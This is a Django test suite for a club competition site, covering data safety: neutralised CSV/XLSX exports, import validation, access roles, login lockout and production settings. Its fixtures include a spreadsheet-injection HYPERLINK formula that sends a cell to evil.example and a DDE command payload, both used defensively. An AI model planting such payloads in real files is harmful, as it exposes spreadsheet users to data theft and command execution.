"""Nothing lost, nothing broken by awkward data, nobody where they don't belong (README, "Data
safety"). Each test is one promise of that section."""

import copy
import io
import json
import logging
import os
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test import Client
from django.urls import NoReverseMatch, reverse
from django.utils import timezone

from competitions.interchange import export_competition
from competitions.models import Player, Season, Series
from competitions.systems.boardgame.models import Seat, Table
from competitions.views import manage_url
from rankings.exports import neutralise, xlsx_bytes
from rankings.imports import import_competition
from rankings.selectors import standings_document
from rankings.urls_helpers import season_url

ROOT = Path(__file__).resolve().parent.parent
pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


# --- downloads are inert ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell,expected",
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),  # a negative number stays a number
        ("+12", "+12"),
        ("An Peeters", "An Peeters"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(cell, expected):
    assert neutralise(cell) == expected


@pytest.fixture
def hostile_season(circuit_file):
    data = copy.deepcopy(circuit_file)
    data["players"][0]["name"] = FORMULA
    data["tournaments"][0]["rounds"][0]["tables"][0]["game"] = "=cmd|' /C calc'!A0"
    return import_competition(data)


def test_page_downloads_neutralise_formulas_in_csv_and_xlsx(client, hostile_season):
    url = season_url(hostile_season, "yearly")
    csv_text = client.get(url, {"_export": "csv"}).content.decode()
    assert "'" + FORMULA.replace('"', '""') in csv_text
    assert "\n=" not in csv_text and ",=" not in csv_text
    book = openpyxl.load_workbook(io.BytesIO(client.get(url, {"_export": "xlsx"}).content))
    sheet = book.active
    assert sheet.title == "Yearly ranking"
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in values), "no formula cell"
    # The XLSX holds the name as typed, in a text cell: shown, never run, no apostrophe.
    named = [cell for cell in values if cell.value == FORMULA]
    assert named and all(cell.data_type == "s" for cell in named)
    assert not any(str(cell.value).startswith("'") for cell in values)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_xlsx_writes_a_text_a_spreadsheet_would_run_as_a_text_cell(start):
    content = xlsx_bytes("Sheet", [["Name", "Points"], [start + "SUM(A1)", 1.5], ["-3", -3]])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    name, points = sheet[2]
    # (XML reads a CR back as an LF; either way the cell is text.)
    assert (name.value.replace("\n", "\r"), name.data_type) == (start + "SUM(A1)", "s")
    assert (points.value, points.data_type) == (1.5, "n")
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("-3", "s")  # text stays text
    assert (sheet["B3"].value, sheet["B3"].data_type) == (-3, "n")


def test_season_csv_zip_neutralises_game_names(client, hostile_season):
    response = client.get(
        reverse("standings_download", args=["belgian-circuit", hostile_season.slug, "zip"])
    )
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    tables = archive.read("tournament-t1-tables.csv").decode()
    assert "'=cmd|' /C calc'!A0" in tables
    assert all(not line.split(",")[1].startswith("=") for line in tables.splitlines()[1:])


# --- '/' and friends in ordinary data -------------------------------------------------------------


def test_a_season_label_with_a_slash_gets_a_slug_and_its_pages_work(client, circuit_file):
    data = copy.deepcopy(circuit_file)
    data["season"] = "2026/27"
    data["tournaments"][0]["rounds"][0]["tables"][0]["game"] = "Ticket to Ride / Europe"
    season = import_competition(data)
    assert season.slug == "2026-27"
    for url in (
        season_url(season),
        season_url(season, "games"),
        season_url(season, "game", "ticket-to-ride-europe"),
        reverse("series", args=["belgian-circuit"]),
    ):
        assert client.get(url, follow=True).status_code == 200, url


@pytest.mark.parametrize(
    "mutate,path",
    [
        (lambda d: d["players"][1].update(id="p/2"), "players[1].id"),
        (lambda d: d["clubs"][0].update(id="c 1"), "clubs[0].id"),
        (lambda d: d["tournaments"][0].update(id="t/1"), "tournaments[0].id"),
    ],
)
def test_ids_that_would_break_urls_are_refused_naming_the_field(circuit_file, mutate, path):
    from competitions.interchange import FileError

    data = copy.deepcopy(circuit_file)
    mutate(data)
    with pytest.raises(FileError) as caught:
        import_competition(data)
    assert caught.value.path == path and "not a valid id" in caught.value.message
    assert not Season.objects.exists()


def test_staff_can_delete_a_season_in_the_admin(admin_client, circuit_file):
    season = import_competition(circuit_file)
    url = reverse("admin:competitions_season_delete", args=[season.pk])
    page = admin_client.get(url)
    assert page.status_code == 200
    assert "permission to delete" not in page.content.decode()
    assert admin_client.post(url, {"post": "yes"}).status_code == 302
    assert not Season.objects.exists()


def test_the_history_of_a_table_deleted_by_an_import_still_shows(admin_client, circuit_file):
    import_competition(circuit_file)
    table = Table.objects.get(round__tournament__key="t2", number=2)
    seat = table.seats.first()
    table.game = "Azul"
    table.save()
    changed = copy.deepcopy(circuit_file)
    del changed["tournaments"][1]
    import_competition(changed, replace=True)
    assert not Table.objects.filter(pk=table.pk).exists()
    for model, pk in ((Table, table.pk), (Seat, seat.pk)):
        url = reverse(f"admin:competitions_{model._meta.model_name}_history", args=[pk])
        assert admin_client.get(url).status_code == 200


# --- imports never destroy newer work by accident -----------------------------------------------


def run_import(tmp_path, data, *options) -> str:
    path = tmp_path / "file.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    out = io.StringIO()
    call_command("import_competition", str(path), *options, stdout=out)
    return out.getvalue()


def test_replacing_a_season_needs_replace_and_dry_run_stores_nothing(tmp_path, circuit_file):
    run_import(tmp_path, circuit_file)
    # A web correction after the import...
    seat = Seat.objects.get(table__round__tournament__key="t1", player__key="p5")
    seat.rank = 2
    seat.save()
    before = export_competition(Season.objects.get())
    # ...is not reverted by importing the older file again without --replace.
    with pytest.raises(CommandError, match="--replace"):
        run_import(tmp_path, circuit_file)
    assert export_competition(Season.objects.get()) == before

    report = run_import(tmp_path, circuit_file, "--replace", "--dry-run")
    assert "Dry run: would replace belgian-circuit 2025." in report
    # Reported per kind of row: the one seat whose rank the correction changed.
    assert "seats: 0 added, 1 changed, 0 removed." in report
    assert "changed: t1 round 2 p5" in report
    assert "Nothing was stored." in report
    assert export_competition(Season.objects.get()) == before

    report = run_import(tmp_path, circuit_file, "--replace")
    assert "Replaced belgian-circuit 2025." in report
    assert Seat.objects.get(table__round__tournament__key="t1", player__key="p5").rank == 1


def test_a_dry_run_of_a_new_season_stores_nothing(tmp_path, circuit_file):
    report = run_import(tmp_path, circuit_file, "--dry-run")
    assert "Dry run: would import belgian-circuit 2025." in report
    assert not Season.objects.exists() and not Player.objects.exists()


def write_raw(tmp_path, raw: bytes) -> str:
    path = tmp_path / "raw.json"
    path.write_bytes(raw)
    return str(path)


@pytest.mark.parametrize(
    "raw,message",
    [
        (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
        ('{"name": "Jérôme"}'.encode("latin-1"), "not UTF-8"),
        (b'{"a": ' + b"9" * 5000 + b"}", "not a usable JSON document"),
        (b"\xef\xbb\xbf{not json", "not valid JSON at line 1, column 2"),
    ],
    ids=["deep-nesting", "latin-1", "5000-digits", "bom-and-bad-json"],
)
def test_pathological_files_are_refused_with_a_message(tmp_path, raw, message):
    with pytest.raises(CommandError, match=message):
        call_command("import_competition", write_raw(tmp_path, raw), stdout=io.StringIO())
    assert not Season.objects.exists()


@pytest.mark.parametrize(
    "name,path,message",
    [
        ("An\u0000Peeters", "players[0].name", "NUL"),
        ("An\ud800Peeters", "players[0].name", "lone surrogate"),
    ],
)
def test_text_no_database_can_store_is_refused_with_its_path(
    tmp_path, circuit_file, name, path, message
):
    data = copy.deepcopy(circuit_file)
    data["players"][0]["name"] = name
    raw = json.dumps(data).encode()  # \u escapes: valid JSON, unstorable text
    with pytest.raises(CommandError) as caught:
        call_command("import_competition", write_raw(tmp_path, raw), stdout=io.StringIO())
    assert str(caught.value).startswith(path) and message in str(caught.value)
    assert not Season.objects.exists()


def test_a_deep_but_parsable_file_is_refused_without_a_traceback(tmp_path, circuit_file):
    data = copy.deepcopy(circuit_file)
    nested: list = []
    deep = nested
    for _ in range(200):
        deep.append([])
        deep = deep[0]
    data["history"] = nested
    with pytest.raises(CommandError, match="nested deeper than"):
        call_command(
            "import_competition",
            write_raw(tmp_path, json.dumps(data).encode()),
            stdout=io.StringIO(),
        )


def test_a_file_above_the_size_limit_is_refused_before_it_is_read_whole(tmp_path, settings):
    settings.IMPORT_MAX_MB = 1
    raw = b'{"pad": "' + b"x" * 1_100_000 + b'"}'
    with pytest.raises(CommandError, match="larger than 1 MB"):
        call_command("import_competition", write_raw(tmp_path, raw), stdout=io.StringIO())


# --- bounds ---------------------------------------------------------------------------------------


def test_an_unbounded_setting_is_refused_by_import_admin_and_manager_form(
    circuit_file, admin_client, django_user_model
):
    from competitions.interchange import FileError

    data = copy.deepcopy(circuit_file)
    data["settings"] = {"rounds_per_tournament": 1_000_000_000}
    with pytest.raises(FileError) as caught:
        import_competition(data)
    assert caught.value.path == "settings.rounds_per_tournament"
    assert "from 1 to 20" in caught.value.message

    season = import_competition(circuit_file)
    change = reverse("admin:competitions_season_change", args=[season.pk])
    page = admin_client.get(change)
    payload = {
        "series": season.series_id,
        "label": season.label,
        "name": season.name,
        "settings": json.dumps({"rounds_per_tournament": 200_000}),
        "entries-TOTAL_FORMS": "0",
        "entries-INITIAL_FORMS": "0",
        "historic_totals-TOTAL_FORMS": "0",
        "historic_totals-INITIAL_FORMS": "0",
        "circuit_final-TOTAL_FORMS": "1",
        "circuit_final-INITIAL_FORMS": "1",
        "circuit_final-0-id": season.circuit_final.pk,
        "circuit_final-0-season": season.pk,
        "circuit_final-0-tournament": season.circuit_final.tournament_id,
        "circuit_previous-TOTAL_FORMS": "1",
        "circuit_previous-INITIAL_FORMS": "1",
        "circuit_previous-0-id": season.circuit_previous.pk,
        "circuit_previous-0-season": season.pk,
        "circuit_previous-0-previous_participants": "[64, 70, 81]",
    }
    assert page.status_code == 200
    refused = admin_client.post(change, payload)
    assert refused.status_code == 200 and "from 1 to 20" in refused.content.decode()
    season.refresh_from_db()
    assert "rounds_per_tournament" not in season.settings

    manager = django_user_model.objects.create_user("m", password="pw-manager-123")
    season.series.managers.add(manager)
    client = Client()
    client.force_login(manager)
    form = {
        "rounds_per_tournament": "3",
        "best_n": "5",
        "interclub_counted": "3",
        "cap_mode": "auto",
        "final_table_size": "4",
        "final_table_sizes": "Catan = ²",
    }
    response = client.post(
        reverse("manage:season_settings", args=["belgian-circuit", "2025"]), form
    )
    assert response.status_code == 400
    assert "write “Game = size”" in response.content.decode()


# --- roles ----------------------------------------------------------------------------------------


def test_staff_without_the_permission_is_not_a_manager(django_user_model, circuit_file):
    season = import_competition(circuit_file)
    staff = django_user_model.objects.create_user("staff", password="pw-staff-1234", is_staff=True)
    client = Client()
    client.force_login(staff)
    assert client.get(manage_url(season)).status_code == 403
    assert client.post(manage_url(season, "tournament_create"), {"name": "X"}).status_code == 403
    assert (
        "Belgian board game circuit" not in client.get(reverse("manage:dashboard")).content.decode()
    )

    staff.user_permissions.add(Permission.objects.get(codename="manage_all_series"))
    staff = django_user_model.objects.get(pk=staff.pk)  # permissions are cached per instance
    client.force_login(staff)
    assert client.get(manage_url(season)).status_code == 200
    assert "Belgian board game circuit" in client.get(reverse("manage:dashboard")).content.decode()


# --- login throttling -----------------------------------------------------------------------------


def test_repeated_wrong_passwords_lock_the_login_and_are_logged(django_user_model, caplog):
    django_user_model.objects.create_user("secretary", password="right-password-1")
    client = Client()
    url = reverse("login")
    with caplog.at_level(logging.WARNING, logger="clubsite.auth"):
        for _ in range(django_settings.AXES_FAILURE_LIMIT):
            response = client.post(url, {"username": "secretary", "password": "wrong"})
            assert response.status_code in (200, 429)
    failures = [r for r in caplog.records if "failed login for user 'secretary'" in r.getMessage()]
    assert len(failures) == django_settings.AXES_FAILURE_LIMIT
    locked = client.post(url, {"username": "secretary", "password": "right-password-1"})
    assert locked.status_code == 429
    assert "Too many failed logins" in locked.content.decode()
    assert "_auth_user_id" not in client.session
    # Another user from the same address is not locked out.
    django_user_model.objects.create_user("other", password="right-password-2")
    ok = client.post(url, {"username": "other", "password": "right-password-2"})
    assert ok.status_code == 302


def test_a_manager_lands_on_the_manager_pages_after_login(django_user_model):
    django_user_model.objects.create_user("secretary", password="right-password-1")
    response = Client().post(
        reverse("login"), {"username": "secretary", "password": "right-password-1"}
    )
    assert response.status_code == 302 and response["Location"] == reverse("manage:dashboard")


# --- production settings --------------------------------------------------------------------------


def django_setup(**env) -> subprocess.CompletedProcess:
    clean = {k: v for k, v in os.environ.items() if k not in ("DJANGO_ENV", "SECRET_KEY")}
    return subprocess.run(
        [
            sys.executable,
            "-c",
            "import django; django.setup(); from django.conf import settings; "
            "from django.urls import reverse; print(settings.DEBUG, settings.PRODUCTION); "
            "print(reverse('password_reset'))",
        ],
        cwd=ROOT,
        env={**clean, "DJANGO_SETTINGS_MODULE": "clubsite.settings", **env},
        capture_output=True,
        text=True,
        timeout=60,
    )


STRONG_KEY = "k" * 20 + "Zq8-mN3_pL0xW7vB2yT5rE9uI4oP1aS6dF"


@pytest.mark.parametrize("value", ["Production", "prod", "staging"])
def test_an_unknown_django_env_refuses_to_start(value):
    result = django_setup(DJANGO_ENV=value, SECRET_KEY=STRONG_KEY)
    assert result.returncode != 0
    assert "DJANGO_ENV must be 'development' or 'production'" in result.stderr


@pytest.mark.parametrize(
    "key", ["", "short", "development-only-key-not-for-production", "django-insecure-" + "x" * 50]
)
def test_a_weak_secret_key_refuses_to_start_in_production(key):
    result = django_setup(DJANGO_ENV="production", SECRET_KEY=key, ALLOWED_HOSTS="x.org")
    assert result.returncode != 0 and "SECRET_KEY" in result.stderr


@pytest.mark.parametrize("debug", ["true", "1", "yes"])
def test_debug_on_refuses_to_start_in_production(debug):
    result = django_setup(
        DJANGO_ENV="production", SECRET_KEY=STRONG_KEY, ALLOWED_HOSTS="x.org", DEBUG=debug
    )
    assert result.returncode != 0 and "DEBUG must be off" in result.stderr
    off = django_setup(
        DJANGO_ENV="production", SECRET_KEY=STRONG_KEY, ALLOWED_HOSTS="x.org", DEBUG="false"
    )
    assert off.stdout.startswith("False True"), off.stderr


def test_production_starts_with_a_strong_key_and_offers_no_password_reset_without_mail():
    result = django_setup(DJANGO_ENV="production", SECRET_KEY=STRONG_KEY, ALLOWED_HOSTS="x.org")
    assert result.stdout.startswith("False True"), result.stderr
    assert "NoReverseMatch" in result.stderr  # no password_reset URL without a mail server
    with_mail = django_setup(
        DJANGO_ENV="production",
        SECRET_KEY=STRONG_KEY,
        ALLOWED_HOSTS="x.org",
        EMAIL_HOST="smtp.x.org",
    )
    assert with_mail.returncode == 0 and "/accounts/password_reset/" in with_mail.stdout


def test_no_password_reset_here_and_connections_are_health_checked(client):
    with pytest.raises(NoReverseMatch):
        reverse("password_reset")
    assert client.get("/accounts/password_reset/").status_code == 404
    assert connection.settings_dict["CONN_HEALTH_CHECKS"] is True


def test_pages_send_a_content_security_policy(client, season):
    policy = client.get(season_url(season))["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "object-src 'none'" in policy
    assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]


def test_no_template_has_inline_script_or_event_handlers():
    offenders = []
    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        if "<script>" in text or any(
            f" on{e}=" in text for e in ("click", "submit", "change", "load")
        ):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_sqlite_waits_for_the_write_lock_instead_of_failing():
    if connection.vendor != "sqlite":
        pytest.skip("SQLite only")
    with connection.cursor() as cursor:
        cursor.execute("PRAGMA journal_mode")
        mode = cursor.fetchone()[0]
    # The in-memory test database cannot use WAL; a file database does (checked by settings).
    assert mode in ("wal", "memory")
    assert connection.settings_dict["OPTIONS"]["transaction_mode"] == "IMMEDIATE"


# --- healthz --------------------------------------------------------------------------------------


def test_healthz_reports_the_database_the_broker_and_stale_standings(client, season):
    ok = client.get("/healthz")
    assert ok.status_code == 200
    assert ok.json()["status"] == "ok" and ok.json()["stale_seasons"] == 0
    long_ago = timezone.now() - timezone.timedelta(hours=2)
    Season.objects.filter(pk=season.pk).update(
        data_version=season.data_version + 1, stale_since=long_ago
    )
    failing = client.get("/healthz")
    assert failing.status_code == 503
    assert failing.json()["stale_seasons"] == 1
    assert failing.json()["oldest_stale_seconds"] >= 7200


# --- the manager sees stale standings and why -----------------------------------------------------


def test_the_manager_is_told_when_and_why_standings_are_stale(manager_client, season):
    Season.objects.filter(pk=season.pk).update(
        data_version=season.data_version + 1,
        stale_since=timezone.now(),
        recompute_error="The task queue could not be reached: connection refused",
    )
    html = manager_client.get(manage_url(season)).content.decode()
    assert "The standings are behind the latest results." in html
    assert "The task queue could not be reached: connection refused" in html
    recompute = reverse("season_recompute", args=["belgian-circuit", season.slug])
    assert manager_client.post(recompute).status_code == 302
    season.refresh_from_db()
    assert not season.stale and season.recompute_error == ""


# --- concurrent edits -----------------------------------------------------------------------------


def table_form(table: Table, client: Client, **changes) -> dict:
    page = client.get(manage_url(table.round.season, "table_edit", "t2", 1, table.pk))
    form = page.context["form"]
    data = {name: form[name].value() or "" for name in form.fields}
    data.update(changes)
    return {k: ("" if v is None else v) for k, v in data.items()}


def test_a_correction_of_a_table_changed_meanwhile_is_refused_not_overwritten(
    manager_client, manager, season, django_user_model
):
    other = django_user_model.objects.create_user("second", password="pw-second-123")
    season.series.managers.add(other)
    second = Client()
    second.force_login(other)
    table = Table.objects.get(round__tournament__key="t2", round__number=1, number=2)
    url = manage_url(season, "table_edit", "t2", 1, table.pk)
    first_form = table_form(table, manager_client, game="Azul")
    second_form = table_form(table, second, game="Splendor")

    assert manager_client.post(url, first_form).status_code == 302
    refused = second.post(url, second_form)
    assert refused.status_code == 400
    text = refused.content.decode()
    assert "This was changed by secretary at" in text and "Reload" in text
    table.refresh_from_db()
    assert table.game == "Azul"


@pytest.mark.django_db(transaction=True)
def test_many_concurrent_edits_never_answer_500(circuit_file, django_user_model):
    if connection.vendor != "postgresql":
        pytest.skip("threads with their own connections: PostgreSQL")
    season = import_competition(circuit_file)
    users = []
    for n in range(6):
        user = django_user_model.objects.create_user(f"m{n}", password="pw-manager-123")
        season.series.managers.add(user)
        users.append(user)
    statuses: list[int] = []
    errors: list[BaseException] = []

    def edit(user, n: int) -> None:
        from django.db import connection as thread_connection

        client = Client(raise_request_exception=False)
        client.force_login(user)
        try:
            for i in range(6):
                # Everyone enters tables of the same round of the same season at once.
                players = [f"p{(n + i + k) % 5 + 1}" for k in range(2)]
                response = client.post(
                    manage_url(season, "round", "t2", 2),
                    {"game": f"Game {n}-{i}", "player_1": players[0], "player_2": players[1]},
                )
                statuses.append(response.status_code)
        except BaseException as exc:  # noqa: BLE001
            errors.append(exc)
        finally:
            thread_connection.close()

    threads = [threading.Thread(target=edit, args=(u, n)) for n, u in enumerate(users)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert errors == []
    assert len(statuses) == 36
    assert set(statuses) <= {302, 400}, statuses
    assert statuses.count(302) >= 1
    # Whatever was stored is consistent: nobody sits twice in the round.
    seats = Seat.objects.filter(round__tournament__key="t2", round__number=2)
    assert seats.count() == len(set(seats.values_list("player_id", flat=True)))


# --- restore: every season's file into an empty database gives the same standings ---------------


def test_exported_files_restore_identical_standings_into_an_empty_database(circuit_file):
    older = copy.deepcopy(circuit_file)
    older["season"] = "2024"
    older["name"] = "Belgian board game circuit 2024"
    del older["history"]
    seasons = [import_competition(older), import_competition(circuit_file)]
    files = [export_competition(s) for s in seasons]
    standings = [standings_document(season=Season.objects.get(pk=s.pk)) for s in seasons]

    Series.objects.all().delete()
    assert not Season.objects.exists() and not Player.objects.exists()

    restored = [import_competition(copy.deepcopy(f)) for f in files]
    assert [export_competition(s) for s in restored] == files
    assert [standings_document(season=s) for s in restored] == standings
